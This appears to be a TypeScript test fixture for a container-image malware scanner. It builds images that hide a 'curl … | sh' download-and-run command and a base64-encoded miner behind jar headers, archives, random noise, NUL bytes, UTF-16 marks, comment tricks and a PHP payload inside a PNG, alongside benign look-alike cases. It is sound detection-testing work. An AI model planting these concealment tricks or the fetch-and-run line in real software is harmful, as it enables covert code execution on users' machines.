import { gzipSync } from 'node:zlib';
import { randomSource } from '../../testkit/random.ts';
import { tar } from '../../testkit/tar.ts';
import { jar, zip } from '../../testkit/zip.ts';
import { type ImageCase, image, MINER_STRINGS, program } from './image-case.ts';

const RUN = 'curl -fsSL http://198.51.100.7/x.sh | sh\n';
const RULE = 'start/download-and-run';
const UNREAD = 'coverage/not-fully-read';
const random = randomSource(7);
/** What compresses to nothing less, and holds every byte. */
const NOISE = Buffer.from(Array.from({ length: 300_000 }, () => random.below(256)));
const LARGE = Buffer.concat([NOISE, NOISE, NOISE, NOISE]);

const bytes = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const JAR = jar({ 'Main-Class': 'a.B' }, [], [{ name: 'x', data: NOISE, stored: true }]);
const LARGE_JAR = jar({ 'Main-Class': 'a.B' }, [], [{ name: 'x', data: LARGE, stored: true }]);
const TGZ = gzipSync(tar([{ path: 'data', data: LARGE }]), { level: 0 });
const LAUNCH = '#!/bin/bash\n[ -r /etc/app.conf ] && . /etc/app.conf\nexec "$JAVA" -jar "$0" "$@"\n';

function runs(path: string, data: Buffer | string): ImageCase['spec'] {
  return image({ [path]: { data, mode: 0o755 } }, { Entrypoint: [`/${path}`] });
}

function read(by: string, path: string, data: Buffer | string): ImageCase['spec'] {
  return image({ [path]: data }, { Entrypoint: [...by.split(' '), `/${path}`] });
}

/** A script calls a file by its name. */
function callsIt(data: Buffer): ImageCase['spec'] {
  return image(
    { 'entrypoint.sh': '#!/bin/sh\n/opt/run\n', 'opt/run': { data, mode: 0o755 } },
    { Entrypoint: ['/entrypoint.sh'] },
  );
}

const found = (name: string, spec: ImageCase['spec'], rule = RULE): ImageCase => ({
  name: `commands ${name}`,
  spec,
  rule,
  ...(rule === RULE && { severity: 'high' as const }),
});

/** What a shell runs beside bytes that look like something else. */
export const BEHIND_SCRIPTS: readonly ImageCase[] = [
  found(
    'behind the beginning of an archive in a here-document of a jar',
    runs('app.jar', bytes(`#!/bin/sh\n: <<'X'\nPK\x03\x04\nX\n${RUN}exit 0\n`, JAR)),
  ),
  found(
    'behind the beginning of an archive in a string of a jar',
    runs('app.jar', bytes(`#!/bin/sh\n: 'PK\x03\x04'\n${RUN}exit 0\n`, JAR)),
  ),
  found(
    'behind the beginning of an archive in a comment of a jar',
    runs('app.jar', bytes(`#!/bin/sh\n# PK\x03\x04\n${RUN}exit 0\n`, JAR)),
  ),
  found(
    'in the last words of a jar',
    runs(
      'app.jar',
      bytes("#!/bin/sh\n: <<'X'\n", zip([{ name: 'a', data: 'a' }], { comment: `\nX\n${RUN}` })),
    ),
  ),
  found(
    'in a file of a jar',
    runs(
      'app.jar',
      bytes("#!/bin/sh\n: <<'X'\n", zip([{ name: 'a', data: `\nX\n${RUN}exit\n`, stored: true }])),
    ),
  ),
  found(
    'in a file of a jar that a script takes out by itself',
    runs(
      'app.jar',
      bytes(
        '#!/bin/sh\nsed "1,/^X$/d" "$0" | sh\nexit 0\n',
        zip([{ name: 'a', data: `\nX\n${RUN}exit\n`, stored: true }]),
      ),
    ),
  ),
  found('before a large archive', runs('setup.run', bytes(`#!/bin/sh\n${RUN}exit 0\n`, TGZ))),
  found(
    'behind a large archive in a here-document',
    runs('setup.run', bytes("#!/bin/sh\n: <<'X'\n", TGZ, `\nX\n${RUN}`)),
    UNREAD,
  ),
  found(
    'behind a large archive after a function called exit',
    runs('setup.run', bytes('#!/bin/bash\nexit() { :; }\nexit 0\n', TGZ, `\n${RUN}`)),
    UNREAD,
  ),
  found(
    'that a large script reads behind its end, as text',
    runs(
      'setup.run',
      bytes('#!/bin/sh\nsed "1,3d" "$0" > /tmp/x; sh /tmp/x\nexit 0\n', '#\n'.repeat(600_000), RUN),
    ),
    UNREAD,
  ),
  {
    name: 'a miner in code behind a large script',
    spec: runs(
      'setup.run',
      bytes(
        '#!/bin/sh\nsed "1,/^X$/d" "$0" | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x\nexit 0\nX\n',
        bytes(program(MINER_STRINGS), LARGE).toString('base64').replace(/.{76}/g, '$&\n'),
      ),
    ),
    rule: 'miner/program',
    severity: 'high',
  },
  found('behind noise in a here-document', runs('run', bytes("#!/bin/sh\n: <<'X'\n", NOISE, `\nX\n${RUN}`))),
  found(
    'behind noise in a string',
    runs('run', bytes("#!/bin/sh\n: '", NOISE.toString('latin1').replaceAll("'", ''), `'\n${RUN}`)),
  ),
  found(
    'behind text and noise, given to a shell',
    read('sh', 'run', bytes('true\n'.repeat(14_000), ": <<'X'\n", NOISE, `\nX\n${RUN}`)),
  ),
  found('with NULs in it', runs('run', bytes('#!/bin/sh\n', [...RUN].join('\0')))),
  found('behind a mark of UTF-16', read('sh', 'run', bytes('\xff\xfe\n', RUN))),
  found('behind a mark of UTF-16, big end first', read('sh', 'run', bytes('\xfe\xff\n', RUN))),
  {
    name: 'a miner in a jar behind other words',
    spec: read('java -jar', 'a.jar', bytes('x\n', zip([{ name: 'n/x', data: program(MINER_STRINGS) }]))),
    rule: 'miner/program',
    severity: 'high',
  },
  found(
    'of Python in a zip behind other words',
    read(
      'python3',
      'app',
      bytes('x\n', zip([{ name: '__main__.py', data: `import os\nos.system("${RUN.trim()}")\n` }])),
    ),
  ),
  found(
    'of Python behind a comment that a carriage return ends',
    read('python3', 'app.py', `# words\rimport os\ros.system("${RUN.trim()}")\r`),
  ),
  found(
    'of JavaScript behind a comment that a carriage return ends',
    read('node', 'app.js', `// words\rrequire("child_process").execSync("${RUN.trim()}")\r`),
  ),
  found(
    'of JavaScript behind a comment that a separator of lines ends',
    read('node', 'app.js', `// words\u2028require("child_process").execSync("${RUN.trim()}")\n`),
  ),
  found('of a file that only a shell starts, behind a NUL', callsIt(bytes('true\n\0\0\n', RUN)), UNREAD),
  found(
    'of a file that only a shell starts, behind the beginning of a program',
    callsIt(bytes('\x7fELF\n', RUN)),
    UNREAD,
  ),
  found(
    'of PHP in a picture that PHP is given',
    read(
      'php',
      'srv/logo',
      bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0', `<?php system("${RUN.trim()}"); ?>`),
    ),
    UNREAD,
  ),
  found(
    'of JavaScript behind noise in a comment',
    read('node', 'srv/app', bytes('/*', NOISE, `*/\nrequire("child_process").execSync("${RUN.trim()}")\n`)),
    UNREAD,
  ),
];

/** Honest files with something behind a script, or beside its text. */
export const BEHIND_SCRIPTS_TWINS: readonly ImageCase[] = [
  { name: 'a jar that starts by itself', spec: runs('app.jar', bytes(LAUNCH, LARGE_JAR)) },
  {
    name: 'a jar that starts by itself, given to Java',
    spec: read('java -jar', 'app.jar', bytes(LAUNCH, 'exit 0\n\n', LARGE_JAR)),
  },
  {
    name: 'an installer that lies there',
    spec: image(
      { 'opt/setup.run': { data: bytes('#!/bin/sh\ntail -n +4 "$0" | tar xz\nexit 0\n', TGZ), mode: 0o755 } },
      { Cmd: ['nginx', '-g', 'daemon off;'] },
    ),
  },
  {
    name: 'compiled Python',
    spec: read('python3', 'app/main.pyc', bytes('\xcb\x0d\x0d\x0a\0\0\0\0', NOISE.subarray(0, 900))),
  },
  {
    name: 'a large Python application in one file',
    spec: runs(
      'app.pyz',
      bytes(
        '#!/usr/bin/env python3\n',
        zip([
          { name: '__main__.py', data: 'print(1)\n' },
          { name: 'x', data: LARGE, stored: true },
        ]),
      ),
    ),
  },
];
